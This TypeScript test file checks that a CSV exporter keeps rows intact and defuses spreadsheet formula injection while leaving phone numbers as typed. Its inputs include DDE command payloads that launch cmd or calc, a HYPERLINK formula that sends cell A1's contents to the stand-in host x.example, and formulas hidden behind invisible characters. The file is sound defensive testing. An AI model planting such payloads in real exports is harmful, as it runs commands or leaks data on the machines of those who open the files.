/** The CSV that spreadsheets open: rows stay whole whatever was typed, and nothing that was typed runs. */
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { toCsv } from '../../supabase/functions/_shared/csv.ts'
import { withoutControls } from '../../supabase/functions/_shared/text.ts'

/** The cells of each row, by RFC 4180. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === undefined || end === '') break
    if (end !== ',') rows.push([])
  }
  return rows.filter((cells) => cells.length > 1)
}

const BEGINS_FORMULA = /^[\t\r\n]|^[\s\p{C}]*[=+\-@＝＋－＠]/u

const typed = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.constantFrom(
        ...['\n', '\r\n', '\r', ',', ';', '"', '""', '\t', '=cmd|A0', '+1 403', '-1', '@SUM(A1)', '＝1'],
      ),
    ),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(''))

it('any text comes back in as many cells as it was written in, and none begins a formula', () => {
  fc.assert(
    fc.property(
      fc.array(fc.record({ first: typed, last: typed }), { minLength: 1, maxLength: 4 }),
      (rows) => {
        const [head, ...read] = parse(toCsv(rows, ['first', 'last']).replace('\ufeff', ''))
        expect(head).toEqual(['first', 'last'])
        expect(read).toEqual(
          rows.map(({ first, last }) =>
            [first, last].map((text) =>
              expect.toBeOneOf([withoutControls(text), `'${withoutControls(text)}`]),
            ),
          ),
        )
        // But a phone number, which has neither letters nor signs to run.
        for (const cell of read.flat())
          if (BEGINS_FORMULA.test(cell)) expect(cell).toMatch(/^[+＋\p{Pd}]?[\d\p{Zs}\p{Pd}()./,;]{7,}$/u)
      },
    ),
  )
})

const cellOf = (text: string) => parse(toCsv([{ text, after: '' }], ['text', 'after']))[1]?.[0]

it.each([
  ...['+1 403 555 0120', '+1 (403) 555-0120', '+1-403-555-0120', '+1.403.555.0120', '+14035550120'],
  ...['+1\u00a0403\u2011555\u20110120', '+1 403 555 0120 ext. 12', '+1 403 555 0120, ext 12'],
  ...['+1 403 555 0120 x12', '+14035550120;ext=12', '+1 403 555 0120 #4', '+1 403/555-0120'],
  ...['+44 20 7946 0958 / +44 20 7946 0959', '+1 403 555 0120, +1 587 555 0121 x3', '＋1 403 555 0120'],
  ...['-403 555 0120', '(403) 555-0120'],
])('a phone number is written as it was typed: %s', (phone) => {
  expect(cellOf(phone)).toBe(phone)
})

it.each([
  ...['=1+1', '=HYPERLINK("https://x.example?"&A1,"+1 403 555 0120")', '+1 403 555 0120=cmd|A0', '+A1'],
  ...['+SUM(1,2)', '+1 403 555 0120 or 0121', '+1 403 555 0120+1', '-1+2', '-1', '+1 403'],
  ...['+1234567890123456', '+1 403 555 0120\n=1', '+1 403 555 0120 x12=1', '+4035550120 5550121\tA1'],
  ...['+1 403 555 0120*A1', "-2+3+cmd|' /C calc'!A0", '@SUM(1)', '＝1+1', '－A1', '＠x', '\t=1', '\t403'],
  ...[' =1', '\u00a0+A1', '+', '-', '-- '],
  // Nor does it run once marks are taken away.
  ...['\u200b=1', '\ufeff=1', '\u202e=1', '\u2066=1', '\r=1', '\r\n=1', '\u0000=1'],
])('what a spreadsheet would run is text: %j', (text) => {
  expect(cellOf(text)).toBe(`'${withoutControls(text)}`)
})

it('numbers and what is not there need no apostrophe', () => {
  const csv = toCsv([{ a: -3, b: null, c: 'Élise, “née” Côté', d: undefined }], ['a', 'b', 'c', 'd'])
  expect(csv).toBe('\ufeffa,b,c,d\r\n-3,,"Élise, “née” Côté",\r\n')
})
